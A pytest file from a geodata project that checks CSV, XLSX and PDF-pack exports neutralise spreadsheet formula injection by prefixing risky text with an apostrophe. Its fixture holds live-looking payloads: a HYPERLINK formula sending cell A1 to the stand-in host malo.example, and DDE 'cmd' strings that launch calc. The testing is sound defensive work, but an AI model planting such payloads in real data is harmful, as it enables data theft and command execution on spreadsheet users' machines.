"""Formula injection: text that a spreadsheet would run (`=HYPERLINK(…)`, `+…`, `-…`, `@…`,
a leading tab or CR) comes out of every tabular export as text with an apostrophe in
front, never as a formula; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import subprocess
import zipfile

import openpyxl
import pytest
from sqlalchemy import update

from geodata.models import Agreement, Case
from layers.cells import spreadsheet_text
from layers.exports import export_layer
from layers.pack import build_pack
from layers.registry import LayerParams
from tests.layers_records import add_records

HOSTILE = {
    "C-001": '=HYPERLINK("http://malo.example/?d="&A1,"Ver detalle")',
    "C-002": "+cmd|' /C calc'!A0",
    "C-003": "-2+3+cmd|' /C calc'!A0",
    "C-004": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C-005": "\t=1+1",
}
CASES = LayerParams(territory="0101")


@pytest.fixture
def hostile(engine):
    with engine.begin() as conn:
        add_records(conn)
        for code, text in HOSTILE.items():
            conn.execute(update(Case).where(Case.code == code).values(description=text))
        conn.execute(update(Agreement).where(Agreement.code == "A-001").values(text='=HYPERLINK("http://malo.example","clic")'))
    return engine


def test_the_one_rule():
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert [spreadsheet_text(c + "x") for c in "+-@\t\r"] == ["'+x", "'-x", "'@x", "'\tx", "'\rx"]
    assert spreadsheet_text("Tubería rota - urgente") == "Tubería rota - urgente"
    assert spreadsheet_text(-66.9) == -66.9 and spreadsheet_text(-5) == -5 and spreadsheet_text(None) is None


def test_the_rule_undone_by_a_load_gives_back_every_text():
    from geodata.spreadsheet import unguard

    texts = ["=1+1", "'=1+1", "''=x", "-menos", "'apóstrofo", "sin nada", "@", "'"]
    assert [unguard(spreadsheet_text(t)) for t in texts] == texts


def test_csv_holds_no_live_formula(hostile, tmp_path):
    path = tmp_path / "casos.csv"
    with hostile.connect() as conn:
        export_layer(conn, "cases", CASES, "csv", path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = {r["code"]: r for r in csv.DictReader(handle)}
    for code, text in HOSTILE.items():
        assert rows[code]["description"] == "'" + text, code
    # Numbers are not text: the negative longitudes are written as they are.
    assert float(rows["C-001"]["lon"]) == pytest.approx(-66.99)
    assert rows["C-001"]["lon"].startswith("-")


def test_xlsx_holds_no_formula_cell(hostile, tmp_path):
    path = tmp_path / "casos.xlsx"
    with hostile.connect() as conn:
        export_layer(conn, "cases", CASES, "xlsx", path)
    book = openpyxl.load_workbook(path)
    formulas = [(s.title, c.coordinate, c.value) for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    sheet = book["datos"]
    header = [c.value for c in sheet[1]]
    rows = {r[header.index("code")]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    for code, text in HOSTILE.items():
        assert rows[code][header.index("description")] == "'" + text, code
    lon = rows["C-001"][header.index("lon")]
    assert isinstance(lon, float) and lon == pytest.approx(-66.99)
    # The raw XML says the same: the description is a string cell, no <f> anywhere.
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml


def test_the_planning_pack_csvs_and_pdf_tables_are_neutralised(hostile, tmp_path):
    target = tmp_path / "paquete.zip"
    with hostile.connect() as conn:
        build_pack(conn, "0101", target)
    with zipfile.ZipFile(target) as archive:
        archive.extractall(tmp_path / "out")
    out = tmp_path / "out"
    with open(out / "csv" / "cases.csv", encoding="utf-8-sig", newline="") as handle:
        rows = {r["code"]: r for r in csv.DictReader(handle)}
    assert rows["C-001"]["description"] == "'" + HOSTILE["C-001"]
    with open(out / "csv" / "agreements.csv", encoding="utf-8-sig", newline="") as handle:
        agreements = {r["code"]: r for r in csv.DictReader(handle)}
    assert agreements["A-001"]["text"].startswith("'=HYPERLINK(")
    text = subprocess.run(["pdftotext", "-layout", str(out / "plan_0101.pdf"), "-"], capture_output=True, text=True, check=True).stdout
    assert "'=HYPERLINK(" in text
